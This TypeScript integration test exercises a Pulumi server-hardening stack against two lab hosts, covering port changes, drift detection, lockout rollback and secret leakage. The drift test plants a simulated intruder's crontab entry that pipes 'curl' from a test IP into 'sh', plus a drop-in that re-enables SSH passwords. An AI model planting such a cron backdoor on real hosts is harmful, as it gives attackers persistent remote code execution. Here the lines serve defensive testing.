// The real Pulumi engine (tools/build-pulumi.sh: CLI 3.248, Node.js language host, the command provider
// STAND-IN, the dynamic-provider host) runs the stack program against two lab hosts: a file backend,
// a stack whose config has the shape of stacks/Pulumi.example.yaml pointed at the lab, the key set with
// `pulumi config set --secret`. No mocks. SSH logins are counted on the hosts (sshd's auth.log lines).
// Expectations come from the plan (planFleet on the same fleet), never from a fixed list of steps.
// FIGURE lines at the end: resources per host, wall time per command, logins per host per command.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse, stringify } from "yaml";
import { afterAll, beforeAll, expect, it } from "vitest";
import { planFleet } from "../../src/plan/plan";
import type { HostPlan } from "../../src/plan/types";
import type { LabHost } from "../lab/lab";
import { labSuite } from "../lab/suite";
import { countLogins } from "./host-logins";
import { changedResources, changedSteps, missingTools, plannedSteps, PulumiProject, REPO, TOOLS_BIN, type CliRun } from "./pulumi-cli";

const STACK = "engine";
const ROLLBACK_SECONDS = 15;
const PORT = 2222;
const BLOCKLIST = Array.from({ length: 2_000 }, (_, i) => `100.64.${i >> 8}.${i & 255}/32`);

labSuite("pulumi engine (real CLI, file backend) against lab hosts", (lab) => {
  let project: PulumiProject;
  let web: LabHost;
  let db: LabHost;
  let hosts: LabHost[];
  let key: string;
  let fleet: any;
  const figures: string[] = [];
  const passphrase = "engine-test-passphrase";

  const plans = (): HostPlan[] => planFleet(fleet, { rollbackSeconds: ROLLBACK_SECONDS });
  const planOf = (host: string) => plans().find((p) => p.host === host)!;
  /** what the program registers per host: the component, its drift resource, payloads, steps, teardown */
  const resourcesOf = (p: HostPlan) => [p.host, `${p.host}-drift`, ...p.uploads.map((u) => `${p.host}-payload-${u.sha256.slice(0, 12)}`),
    ...p.steps.map((s) => `${p.host}-${s.name}`), `${p.host}-teardown`];

  function writeStack(): void {
    const file = parse(readFileSync(project.stackFile, "utf8")) ?? {};
    file.config = { ...file.config, "hardening:fleet": fleet };
    project.writeFile(join("stacks", `Pulumi.${STACK}.yaml`), stringify(file));
  }

  /** runs `pulumi ARGS`, counting the logins each host sees, and records the figures */
  async function pulumi(label: string, args: string[], opts: { code?: number | "non-zero"; input?: string } = {}): Promise<CliRun & { logins: Record<string, number> }> {
    const { result, logins } = await countLogins(hosts, () => project.run(label, args, { events: true, input: opts.input }));
    figures.push(`FIGURE engine ${label.padEnd(44)} ${String(result.ms).padStart(6)} ms  logins ${JSON.stringify(logins)}  exit ${result.code}`);
    const expected = opts.code ?? 0;
    if (expected === "non-zero" ? result.code === 0 : result.code !== expected) {
      throw new Error(`${label}: pulumi ${args.join(" ")} exited ${result.code}, expected ${opts.code ?? 0}\n${result.stdout}\n${result.stderr}`);
    }
    return { ...result, logins };
  }
  const ssh = (h: LabHost, port: number, cmd: string) => lab().ssh(h.endpoint(port), cmd, { timeoutMs: 20_000 });
  const byHost = (steps: { name: string; op: string }[], host: string) =>
    steps.filter((s) => s.name === host || s.name.startsWith(`${host}-`));

  beforeAll(async () => {
    const missing = missingTools();
    if (missing.length) {
      throw new Error(`the engine tests need the Pulumi tools in ${TOOLS_BIN}, missing: ${missing.join(", ")}; run tools/build-pulumi.sh`);
    }
    [web, db] = [await lab().host({ name: "web1" }), await lab().host({ name: "db1" })];
    hosts = [web, db];
    key = readFileSync(lab().adminKey, "utf8");
    const adminPub = readFileSync(`${lab().adminKey}.pub`, "utf8").trim();
    // the example stack's fleet, pointed at the lab: addresses, host keys, the lab's admin key and net
    const example = parse(readFileSync(join(REPO, "stacks", "Pulumi.example.yaml"), "utf8")).config["hardening:fleet"];
    fleet = structuredClone(example);
    fleet.defaults.ssh.authorizedKeys = { root: [adminPub] };
    fleet.defaults.firewall.sshAllow = [`${lab().net}.0/24`];
    fleet.defaults.fail2ban.ignore = [`${lab().uplink}/32`]; // the runner logs in often; never ban it
    // namespace lab hosts log through rsyslog to auth.log; the Debian profile's default is the journal
    fleet.defaults.fail2ban.logBackend = "file";
    const lab1 = { web1: web, db1: db } as Record<string, LabHost>;
    fleet.hosts = fleet.hosts.filter((h: any) => lab1[h.name]).map((h: any) => ({
      ...h, address: lab1[h.name].ip, hostKey: lab1[h.name].hostKey, os: "debian-12",
    }));
    fleet.hosts[0].policy = { firewall: { blocklists: [{ name: "drop", cidrs: BLOCKLIST }] } };
    expect(fleet.hosts.map((h: any) => h.name)).toEqual(["web1", "db1"]);

    project = new PulumiProject(STACK, passphrase);
    await project.must("login", ["login"]);
    await project.must("stack init", ["stack", "init", STACK]);
    writeStack();
    for (const [k, v] of [["rollbackSeconds", ROLLBACK_SECONDS], ["dialErrorLimit", 2], ["perDialTimeout", 5]]) {
      await project.must(`config set ${k}`, ["config", "set", `hardening:${k}`, String(v)]);
    }
    await project.must("config set --secret", ["config", "set", "--secret", "hardening:sshPrivateKey"], { input: key });
    const stackText = readFileSync(project.stackFile, "utf8");
    expect(stackText).toMatch(/hardening:sshPrivateKey:\s*\n\s*secure: /);
  }, 600_000);

  afterAll(() => {
    if (fleet) for (const p of plans()) figures.unshift(`FIGURE engine resources ${p.host}: ${resourcesOf(p).length} (${resourcesOf(p).join(" ")})`);
    console.log(`\n${figures.join("\n")}`);
    project?.dispose();
  });

  it("1. preview --diff of a new stack lists, per host, every resource of its plan as a create and touches no host", async () => {
    const r = await pulumi("preview --diff (new stack)", ["preview", "--diff"]);
    const planned = plannedSteps(r);
    for (const p of plans()) {
      expect(byHost(planned, p.host).map((s) => `${s.name}:${s.op}`).sort()).toEqual(resourcesOf(p).map((n) => `${n}:create`).sort());
      for (const step of p.steps) expect(r.stdout).toContain(`[urn=urn:pulumi:${STACK}::hardening::hardening:index:HardenedHost$command:remote:Command::${p.host}-${step.name}]`);
    }
    expect(r.stdout).toMatch(/pulumi-nodejs:dynamic\/hardening:HostDrift/);
    expect(r.logins).toEqual({ web1: 0, db1: 0 });
  }, 300_000);

  it("2. up --yes converges both hosts; outputs per host as documented", async () => {
    const r = await pulumi("up (first)", ["up", "--yes", "--skip-preview"]);
    for (const p of plans()) {
      expect(byHost(changedSteps(r), p.host).map((s) => `${s.name}:${s.op}`).sort()).toEqual(resourcesOf(p).map((n) => `${n}:create`).sort());
      // one login per payload, step and teardown, one for the drift probe (the refused try on the target is none)
      expect(r.logins[p.host], `${p.host} logins`).toBe(p.uploads.length + p.steps.length + 1 + 1);
    }
    const out = JSON.parse((await project.must("stack output", ["stack", "output", "--json"])).stdout);
    for (const p of plans()) {
      expect(out.hosts[p.host]).toEqual({
        address: p.target.address, sshPort: PORT, sshUser: "root", policyHash: p.policyHash,
        units: Object.fromEntries(p.steps.map((s) => [s.name, s.sha256])),
      });
    }
    for (const h of hosts) {
      const now = await ssh(h, PORT, "sshd -T | grep -E '^(port|passwordauthentication) '");
      expect(now.stdout, now.stderr).toBe(`port ${PORT}\npasswordauthentication no\n`);
      expect((await ssh(h, 22, "true")).code).toBe(255); // confirm closed the old port
    }
  }, 600_000);

  it("3. a second up with nothing changed reports no changes and opens no SSH session on either host", async () => {
    const r = await pulumi("up (no change)", ["up", "--yes", "--skip-preview"]);
    expect(changedSteps(r)).toEqual([]);
    expect(r.stdout).toMatch(/\d+ unchanged/);
    expect(r.stdout).not.toMatch(/\d+ (created|updated|replaced|deleted)/);
    expect(r.logins).toEqual({ web1: 0, db1: 0 });
  }, 300_000);

  it("5. the SSH port change, second up: connection.port follows the policy; reachable on the new port; preview shows no changes", async () => {
    for (const h of fleet.hosts) h.connection.port = PORT;
    writeStack();
    const r = await pulumi("up (connection.port 22 -> 2222)", ["up", "--yes", "--skip-preview"]);
    for (const p of plans()) {
      const changed = changedResources(r).filter((n) => n.startsWith(`${p.host}-`));
      // what runs over the current connection re-runs (the steps find everything in sync; a payload is an
      // update of its CopyToRemote, copied again), confirm follows, the drift resource records; nothing else
      expect(changed.sort()).toEqual([`${p.host}-drift`, `${p.host}-confirm`,
        ...p.uploads.map((u) => `${p.host}-payload-${u.sha256.slice(0, 12)}`),
        ...p.steps.filter((s) => s.via === "current").map((s) => `${p.host}-${s.name}`)].sort());
      expect(r.logins[p.host], `${p.host}: one login per resource that ran`).toBe(changed.length);
    }
    expect(r.stdout).toMatch(/in sync/);
    for (const h of hosts) expect((await ssh(h, PORT, "true")).code).toBe(0);
    const again = await pulumi("preview --expect-no-changes (after move)", ["preview", "--expect-no-changes"]);
    expect(plannedSteps(again)).toEqual([]);
    expect(again.logins).toEqual({ web1: 0, db1: 0 });
  }, 300_000);

  it("4. the scheduled drift check passes on an unchanged fleet, names an intruder's edits, and up --refresh re-runs exactly those units", async () => {
    const clean1 = await pulumi("refresh --preview-only --expect-no-changes (clean)", ["refresh", "--preview-only", "--expect-no-changes", "--diff"]);
    const clean2 = await pulumi("preview --refresh --expect-no-changes (clean)", ["preview", "--refresh", "--expect-no-changes", "--diff"]);
    expect([clean1.logins, clean2.logins]).toEqual([{ web1: 1, db1: 1 }, { web1: 1, db1: 1 }]);

    // the intruder, through the hosts' own shells (no SSH): a drop-in that sorts first and wins, a crontab
    const drop = await web.exec("printf 'PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/00-a-intruder.conf");
    expect(drop.code, drop.stderr).toBe(0);
    const cron = await db.exec("printf '* * * * * curl -s http://198.51.100.66/x | sh\\n' > /var/spool/cron/crontabs/www-data && chown www-data:crontab /var/spool/cron/crontabs/www-data && chmod 600 /var/spool/cron/crontabs/www-data");
    expect(cron.code, cron.stderr).toBe(0);

    for (const [label, args] of [
      ["refresh --preview-only --expect-no-changes (drifted)", ["refresh", "--preview-only", "--expect-no-changes", "--diff"]],
      ["preview --refresh --expect-no-changes (drifted)", ["preview", "--refresh", "--expect-no-changes", "--diff"]],
    ] as const) {
      const r = await pulumi(label, [...args], { code: "non-zero" });
      expect(r.stdout + r.stderr).toMatch(/sshd passwordauthentication: expected no, found yes \(from \/etc\/ssh\/sshd_config\.d\/00-a-intruder\.conf:1\)/);
      expect(r.stdout + r.stderr).toMatch(/crontab of www-data: undeclared entry/);
      expect(r.stdout + r.stderr).toMatch(/no changes were expected/);
    }

    const heal = await pulumi("up --refresh (heal)", ["up", "--refresh", "--yes", "--skip-preview"]);
    const changed = changedResources(heal);
    const units = (host: string) => changed.filter((n) => n.startsWith(`${host}-`) && !n.endsWith("-drift")).sort();
    expect(units("web1")).toEqual(["web1-confirm", "web1-sshd"]);
    expect(units("db1")).toEqual(["db1-confirm", "db1-cron"]);
    const sshd = await ssh(web, PORT, "sshd -T | grep '^passwordauthentication '");
    expect(sshd.stdout).toBe("passwordauthentication no\n");
    const after = await pulumi("refresh --preview-only --expect-no-changes (healed)", ["refresh", "--preview-only", "--expect-no-changes"]);
    expect(after.code).toBe(0);
  }, 600_000);

  it("6. a whitelist without the admin (no adminSources): up fails naming the unreachable host, the host restores itself, the fixed fleet converges", async () => {
    const fingerprint = () => ssh(db, PORT, "nft list ruleset | sha256sum; cat /etc/ssh/sshd_config.d/*.conf | sha256sum").then((r) => r.stdout);
    const before = await fingerprint();
    const good = structuredClone(fleet.hosts[1].policy ?? {});
    fleet.hosts[1].policy = { ...good, firewall: { ...good.firewall, sshAllow: ["192.0.2.0/24"] } };
    writeStack();
    const failed = await pulumi("up (lockout: whitelist without the admin)", ["up", "--yes", "--skip-preview"], { code: "non-zero" });
    expect(failed.stdout + failed.stderr).toMatch(new RegExp(`could not connect to root@${db.ip.replace(/\./g, "\\.")}:${PORT}`));
    // the host restores itself once the rollback window has passed: wait for the admin to get in again
    const deadline = Date.now() + (ROLLBACK_SECONDS + 60) * 1000;
    while ((await ssh(db, PORT, "true")).code !== 0) {
      if (Date.now() > deadline) throw new Error("db1 did not restore itself");
    }
    expect(await fingerprint()).toBe(before);
    expect((await ssh(web, PORT, "true")).code).toBe(0); // the other host was never touched by the bad policy

    fleet.hosts[1].policy = good;
    writeStack();
    // the first up after the fix re-runs the firewall (in sync: the host is on the good state) and
    // confirm, which reports the rollback of the failed run once and fails; the next up converges
    const report = await pulumi("up (fleet fixed: reports the rollback)", ["up", "--yes", "--skip-preview"], { code: "non-zero" });
    expect(report.stdout).toMatch(/confirm: FAILED: the host had already rolled itself back/);
    expect(report.stdout).toMatch(/no confirmed login before the deadline/);
    const fixed = await pulumi("up (fleet fixed: converges)", ["up", "--yes", "--skip-preview"]);
    expect(changedResources(fixed)).toEqual(["db1-confirm"]);
    expect(fixed.stdout).toMatch(/nothing was waiting for confirmation/);
    expect(byHost(changedSteps(report), "web1")).toEqual([]);
    expect(await fingerprint()).toBe(before);
    const clean = await pulumi("preview --expect-no-changes (after fix)", ["preview", "--expect-no-changes"]);
    expect(plannedSteps(clean)).toEqual([]);
  }, 600_000);

  it("7. destroy --yes: both hosts back on the distribution's state and reachable on 22", async () => {
    const r = await pulumi("destroy", ["destroy", "--yes", "--skip-preview"]);
    for (const p of plans()) {
      expect(byHost(changedSteps(r), p.host).filter((s) => s.op === "delete").map((s) => s.name).sort()).toEqual(resourcesOf(p).sort());
      expect(r.logins[p.host], `${p.host}: only the teardown logs in`).toBe(1);
    }
    for (const h of hosts) {
      const back = await ssh(h, 22, "sshd -T | grep '^port '; nft list tables | grep -c harden; ls /etc/ssh/sshd_config.d | grep -c harden; ls /etc/fail2ban/jail.d | grep -c harden");
      expect(back.stdout, back.stderr).toBe("port 22\n0\n0\n0\n");
    }
  }, 300_000);

  it("8. no plaintext private key in the stack export, the outputs or any CLI output; in a -v=9 --logflow log only in the engine's own input logging", async () => {
    // a full up (create of everything) with the most verbose log, then what the state holds; the
    // destroyed hosts are back on 22
    for (const h of fleet.hosts) h.connection.port = 22;
    writeStack();
    const verbose = await pulumi("up -v=9 --logflow (secrets)", ["up", "--yes", "--skip-preview", "-v=9", "--logflow", "--logtostderr"]);
    expect(verbose.stderr.length).toBeGreaterThan(100_000); // the log really is verbose
    const exported = await project.must("stack export", ["stack", "export"]);
    const outputs = await project.must("stack output", ["stack", "output", "--json", "--show-secrets"]);
    const body = key.split("\n").filter((l) => l && !l.startsWith("-----"));
    expect(body.length).toBeGreaterThan(2);
    // every 24-character slice of the key's base64 body, so a re-wrapped or partial key is caught too;
    // but not the public key inside it (the authorized key is in the plan, in plain text by design)
    const adminPub = readFileSync(`${lab().adminKey}.pub`, "utf8");
    const slices = body.join("").match(/.{24}/g)!.filter((s) => !adminPub.includes(s));
    expect(slices.length).toBeGreaterThan(8);
    const texts: Record<string, string> = {
      "stack export": exported.stdout, "stack output --show-secrets": outputs.stdout,
      ...Object.fromEntries(project.runs.filter((r) => r.label !== verbose.label).map((r, i) => [`#${i} ${r.label}`, r.stdout + r.stderr])),
    };
    // KNOWN LIMITATION of the engine, measured here: at -v=9 the CLI logs the inputs it plans, sends and
    // receives ("Planner decided to create ... (inputs=...)", "(Un)marshaling property for RPC[...]"),
    // the stack's secret config and secret inputs in plain text; its filter for secret config values
    // does not catch them. No other line (the providers' and plugins' own output) may hold the key.
    const verboseLines = `${verbose.stdout}\n${verbose.stderr}`.split("\n");
    const leaking = verboseLines.filter((l) => slices.some((s) => l.includes(s)) || /PRIVATE KEY-----/.test(l));
    const engineLine = /Planner decided to \w+ '|(?:Unm|M)arshaling property for RPC\[/;
    console.log(`FIGURE engine -v=9 log lines holding the private key: ${leaking.length} of ${verboseLines.length}` +
      ` (engine input logging: ${leaking.filter((l) => engineLine.test(l)).length})`);
    expect(leaking.length).toBeGreaterThan(0); // the limitation is real; when Pulumi filters it, tighten this test
    expect(leaking.filter((l) => !engineLine.test(l)).map((l) => l.slice(0, 200))).toEqual([]);
    for (const [what, text] of Object.entries(texts)) {
      const found = slices.flatMap((s, i) => text.includes(s) ? [`#${i} ${s} in "...${text.slice(Math.max(0, text.indexOf(s) - 80), text.indexOf(s) + 30)}..."`] : []);
      expect(found, `${what} holds the private key`).toEqual([]);
      expect(text, what).not.toMatch(/PRIVATE KEY-----/);
    }
    expect(JSON.parse(exported.stdout).deployment.secrets_providers.type).toBe("passphrase");
    expect(exported.stdout).toMatch(/"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270"/); // secret sig
    await pulumi("destroy (after secrets)", ["destroy", "--yes", "--skip-preview"]);
  }, 600_000);
});
